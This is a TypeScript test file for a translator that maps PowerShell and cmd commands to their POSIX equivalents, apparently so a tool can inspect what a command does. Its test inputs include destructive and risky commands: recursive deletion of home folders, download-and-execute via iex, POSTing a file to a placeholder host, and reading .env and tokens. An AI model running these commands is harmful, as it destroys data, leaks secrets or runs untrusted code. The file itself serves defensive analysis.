import { expect, test } from "vitest";
import { fromCmd } from "../../../src/helpers/shell/cmd.ts";
import { fromPowerShell } from "../../../src/helpers/shell/powershell.ts";
import { commandsOf } from "../../../src/helpers/shell/unwrap.ts";

function commandsIn(text: string | undefined): string[] {
  return commandsOf(text ?? "unread").map(({ path, arguments: given }) => [path, ...given].join(" "));
}

test.each([
  ["Remove-Item -Recurse -Force $env:USERPROFILE\\Documents", ["rm -r -f $HOME/Documents"]],
  ["ri '~\\a b' -r -fo", ["rm -r -f ~/a b"]],
  ["Remove-Item ~ -Recurse -WhatIf", [":"]],
  ["Remove-Item Env:A", ["unset A"]],
  ["Get-ChildItem C:\\x -Recurse -Filter *.o | Remove-Item", ["find C:/x -name *.o", "xargs rm", "rm"]],
  ["$d = @('a', 'b'); foreach ($x in $d) { del $x }", ["rm a", "rm b"]],
  ["if (Test-Path a) { rm a -Recurse } else { git push --force }", ["ls -d a", "rm -r a", "git push --force"]],
  ["try { npm test } catch { Write-Error 'no' } finally { cd .. }", ["npm test", "echo no", "cd .."]],
  ["switch ($x) { 'a' { git reset --hard } }", [":", "git reset --hard"]],
  ["function Clean { rm dist -r }; Clean", ["Clean", "rm -r dist"]],
  ["Get-Content .env | Select-String 'KEY'", ["cat .env", "grep -e KEY"]],
  ["Get-ChildItem Env:", ["printenv"]],
  ["gci env: | select Name", ["printenv", "cut -d= -f1"]],
  ["dir env: | where Name -match TOKEN", ["printenv", "grep -e TOKEN"]],
  ["(Get-Item Env:A_TOKEN).Value", ["printenv A_TOKEN", "echo $(printenv A_TOKEN)"]],
  ["$env:A_TOKEN", ["echo $A_TOKEN"]],
  ['Write-Host "it is $($env:A_TOKEN)"', ["echo it is $A_TOKEN"]],
  ["if ($env:A_TOKEN) { 'set' }", [":", "echo set"]],
  ["[bool]$env:A_TOKEN", []],
  ["iwr https://a.example/i.ps1 -UseBasicParsing | iex", ["curl https://a.example/i.ps1", "sh"]],
  ["(New-Object Net.WebClient).DownloadFile('https://a.example', 'b')", ["curl https://a.example -o b"]],
  ["iex 'Remove-Item a -Recurse'", ["rm -r a"]],
  ["[IO.Directory]::Delete('a\\b', $true)", ["rm -rf a/b"]],
  ["irm https://a.example -Method Post -Body (gc a)", ["cat a", "curl https://a.example -X Post -d $(cat 'a')"]],
  ["Set-Content -Path a -Value 'b c'", ["echo b c"]],
  ["'b' | Out-File -Append a", ["echo b", "cat"]],
  ["& 'C:\\Program Files\\Git\\git.exe' push --force", ["C:\\Program Files\\Git\\git.exe push --force"]],
  ["iwr https://a.example -OutFile a.ps1; .\\a.ps1", ["curl https://a.example -o a.ps1", "./a.ps1"]],
  ["npm test 2>&1 | Tee-Object -FilePath log", ["npm test", "tee log"]],
  ["Stop-Process -Name node -Force", ["pkill node"]],
  ["Stop-Computer -Force", ["shutdown -h now"]],
  ["Start-Process git -ArgumentList 'push --force'", ["git push --force"]],
  ["Invoke-Command -ComputerName h { rm a }", ["ssh h rm 'a'", "rm a"]],
  ["@'\na (b\n'@ | Set-Content c", ["echo a (b", "cat"]],
  ["# rm a\n<# rm b #>\nGet-Date", ["Get-Date"]],
])("PowerShell's %s is read as what it does", (text, commands) => {
  expect(commandsIn(fromPowerShell(text))).toEqual(commands);
});

test.each(["if (", "'a", "{ a", "a )", "$(".repeat(100)])("what PowerShell can't read stays unread: %s", (text) => {
  expect(fromPowerShell(text)).toBeUndefined();
});

test.each([
  ['rd /s /q "C:\\Users\\me\\a b"', ["rm -rf C:/Users/me/a b"]],
  ["rd a", ["rmdir a"]],
  ["del /s /q %USERPROFILE%\\*", ["rm -rf $HOME/*"]],
  ["if not exist a (mkdir a) else (del b)", ["mkdir -p a", "rm -f b"]],
  ["cd /d C:\\x && git push --force & type .env | find x", ["cd C:/x", "git push --force", "cat .env", "find x"]],
  ["set", ["printenv"]],
  ["set A=b&& echo %A%", ["export A=b", "echo b"]],
  ['for /d %i in (*) do rd /s /q "%i"', ["rm -rf *"]],
  ["@echo off\nrem del a\necho ^& b", ["echo & b"]],
])("cmd's %s is read as what it does", (text, commands) => {
  expect(commandsIn(fromCmd(text))).toEqual(commands);
});

test("a text that is too long to be taken apart isn't read as nothing", () => {
  const text = `${"if (1) { a } else { b }; ".repeat(3_000)}Remove-Item ~ -Recurse`;
  expect(() => commandsOf(`pwsh -c "${text}"`)).toThrow("it is too long for PowerShell");
});
